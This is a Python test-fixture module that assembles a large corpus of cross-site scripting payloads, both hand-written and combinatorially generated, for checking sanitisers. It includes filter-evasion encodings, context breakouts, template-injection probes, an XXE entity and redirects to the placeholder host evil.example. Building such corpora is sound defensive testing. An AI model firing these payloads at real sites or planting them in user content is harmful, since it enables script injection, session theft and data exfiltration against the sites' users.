"""Text that would set `window.ran`, open a dialog or ask another host, were it obeyed as markup, as an address, as a
style or as a template.

`HANDMADE` is written by hand; `GENERATED` goes through elements, events, ways of writing them and the places of a page
that must be broken out of. Keep both free of carriage returns and of NUL, which no page and no document keeps.
"""

from __future__ import annotations

from html import escape
from itertools import product
from urllib.parse import quote

__all__ = ["CALL", "EVERY", "GENERATED", "HANDMADE", "SAMPLE"]

CALL = "window.ran=1"
HANDMADE = (
    f"<script>{CALL}</script>",
    f"<ScRiPt>{CALL}</sCrIpT>",
    f"<script\x0c>{CALL}</script>",
    f"</title><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>",
    f"</style><script>{CALL}</script>",
    f"</noscript><script>{CALL}</script>",
    f"-->{'<'}script>{CALL}</script>",
    f"]]><script>{CALL}</script>",
    f'"><script>{CALL}</script>',
    f"'><script>{CALL}</script>",
    f"</bdi></mark></blockquote><script>{CALL}</script>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<img src=x onerror={CALL}>",
    f'<img src="x" onerror="{CALL}">',
    f"<img/src=x/onerror={CALL}>",
    f"<img src=x onerror\x0a=\x0a{CALL}>",
    f'"><img src=x onerror={CALL}>',
    f"' onfocus={CALL} autofocus tabindex=1 x='",
    f'" onfocus="{CALL}" autofocus x="',
    f'" onmouseover="{CALL}" style="position:fixed;inset:0',
    f"<svg onload={CALL}>",
    f"<svg/onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><set onbegin={CALL} attributename=x>",
    f'<svg><a href="javascript:{CALL}"><text y=9>x</text></a></svg>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}>",
    f"<body onload={CALL}>",
    f"<body onpageshow={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<select autofocus onfocus={CALL}>",
    f"<textarea autofocus onfocus={CALL}>",
    f"<details open ontoggle={CALL}>",
    f"<video><source onerror={CALL}></video>",
    f"<audio src=x onerror={CALL}>",
    f"<marquee onstart={CALL}>x</marquee>",
    f"<object data=javascript:{CALL}>",
    f"<embed src=javascript:{CALL}>",
    f"<iframe src=javascript:parent.{CALL}>",
    f'<iframe srcdoc="<script>parent.{CALL}</script>">',
    f"<form action=javascript:{CALL}><button>x</button></form>",
    f'<a href="javascript:{CALL}">x</a>',
    f'<a href="java&#10;script:{CALL}">x</a>',
    f"javascript:{CALL}//",
    f"data:text/html,<script>parent.{CALL}</script>",
    '<base href="https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    '<style>@import "https://evil.example/x.css"; body{display:none}</style>',
    '<img src="https://evil.example/x.png">',
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"&#60;img src=x onerror={CALL}&#62;",
    f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
    f"％3Cscript％3E{CALL}",
    "{{ ''.__class__.__mro__ }}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    f"${{{CALL}}}#{{{CALL}}}<%= {CALL} %>",
    f"\u202e<script>{CALL}</script>\u202c",
    f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-",
    f"<template><img src=x onerror={CALL}></template><p is=x-y onclick={CALL}>",
    f"`-{CALL}-`';{CALL}//\";{CALL}//",
)

# An element with what makes its event come without a reader, and the event.
_EVENTS = (
    ("img src=x", "onerror"),
    ("image src=x", "onerror"),
    ("svg", "onload"),
    ("body", "onload"),
    ("body", "onpageshow"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("button autofocus", "onfocus"),
    ("a href=# autofocus", "onfocus"),
    ("p tabindex=0 autofocus", "onfocus"),
    ("b contenteditable autofocus", "onfocus"),
    ("details open", "ontoggle"),
    ("video src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("track src=x", "onerror"),
    ("source src=x", "onerror"),
    ("script src=x", "onerror"),
    ("object data=x", "onerror"),
    ("embed src=x", "onload"),
    ("iframe src=about:blank", "onload"),
    ("frameset", "onload"),
    ("link rel=stylesheet href=x", "onerror"),
    ("style", "onload"),
    ("marquee", "onstart"),
    ("svg><animate attributeName=x dur=1s", "onbegin"),
    ("svg><set attributeName=x", "onbegin"),
    ("math><mi xlink:href=x autofocus", "onfocus"),
    ("form><input type=image src=x", "onerror"),
    ("x style=animation-name:x", "onanimationstart"),
)
# The same in other letters: quotes, case, what stands for a space, entities.
_WRITINGS = (
    f"<{{tag}} {{event}}={CALL}>",
    f'<{{tag}} {{event}}="{CALL}">',
    f"<{{tag}} {{event}}='{CALL}'",
    f"<{{tag}} {{event}}=`{CALL}`>",
    f"<{{tag}}\n{{event}}\n=\n{CALL}//",
    f"<{{tag}}\t{{event}}\x0c={CALL}>",
    f"<{{tag}}/{{event}}={CALL}/>",
    f"<{{TAG}} {{EVENT}}={CALL}>",
    "<{tag} {event}=window&#46;ran&#x3d;1>",
    '<{tag} {event}="[window.ran=1].find(x=>x)">',
)
# The end of whatever a page has put the text into: text, a title, an attribute, a script, a comment, a feed.
_BREAKS = (
    *("</title>", "</textarea>", "</script>", "</style>", "</select>", "</q></bdi>", '">', "'>", "-->", "]]>"),
    *('"}</script>', "\\u0022}</script>", "</summary></entry></feed>"),
)
_SCHEMES = (
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f" javascript:{CALL}",
    f"\x01javascript:{CALL}",
    f"java\tscript:{CALL}",
    f"java\nscript:{CALL}",
    f"javascript&colon;{CALL}",
    f"&#106;avascript:{CALL}",
    f"vbscript:{CALL}",
    f"data:text/html,<script>parent.{CALL}</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQud2luZG93LnJhbj0xPC9zY3JpcHQ+",
    "//evil.example/x",
    "https://evil.example\\@x",
)
_CARRIERS = (
    '<a href="{}">x</a>',
    "<iframe src='{}'></iframe>",
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<form action="{}"><button autofocus>x</button></form>',
    '<button formaction="{}">x</button>',
    '<svg><a xlink:href="{}"><text y=9>x</text></a></svg>',
    '<meta http-equiv=refresh content="0;url={}">',
    '<base href="{}"><a href=x>x</a>',
    '<link rel=import href="{}">',
    "[x]({})",
    '[x]: {} "x"',
    "{}",
)
_SCRIPT = f"<script>{CALL}</script>"
_XML = (
    f'<x:script xmlns:x="http://www.w3.org/1999/xhtml">{CALL}</x:script>',
    f'<script xmlns="http://www.w3.org/1999/xhtml">{CALL}</script>',
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{CALL}"/>',
    '<?xml-stylesheet href="https://evil.example/x.xsl" type="text/xsl"?>',
    '<!DOCTYPE x [<!ENTITY x SYSTEM "https://evil.example/x">]><x>&x;</x>',
    f"<![CDATA[<script>{CALL}</script>]]>",
    f'{{"@context":"x","name":"</script><script>{CALL}</script>"}}',
    f"<!--<script>{CALL}//-->",
    f"<!--<script {_SCRIPT}",
)


def _encoded(text: str) -> tuple[str, ...]:
    """A payload in the ways in which something may undo an encoding once too often."""
    return (
        quote(text),
        quote(quote(text)),
        escape(text),
        escape(escape(text)),
        "".join(f"&#{ord(character)};" for character in text),
        "".join(f"&#x{ord(character):x}" for character in text),
        "".join(f"\\u{ord(character):04x}" for character in text),
        "".join(f"\\x{ord(character):02x}" for character in text),
        text.translate({ord(character): ord(character) + 0xFEE0 for character in "<>\"'=/"}),
        "".join(f"{character}\u0301" if character in "<>" else character for character in text),
        f"\u202e{text[::-1]}\u202c",
        text.replace("<", "\u200b<\u200d"),
        text.replace("<", "\u00ad<"),
    )


def _generated() -> tuple[str, ...]:
    made = [
        writing.format(tag=tag, event=event, TAG=tag.upper(), EVENT=event.upper())
        for (tag, event), writing in product(_EVENTS, _WRITINGS)
    ]
    made += [f"{end}{start}" for end, start in product(_BREAKS, (_SCRIPT, "<svg onload=window.ran=1>", "<!-- "))]
    made += [carrier.replace("{}", scheme) for carrier, scheme in product(_CARRIERS, _SCHEMES)]
    made += _XML
    made += [way for text in (_SCRIPT, "<img src=x onerror=window.ran=1>") for way in _encoded(text)]
    return tuple(dict.fromkeys(payload for payload in made if payload not in HANDMADE))


GENERATED = _generated()
SAMPLE = GENERATED[::22]
EVERY = HANDMADE + GENERATED
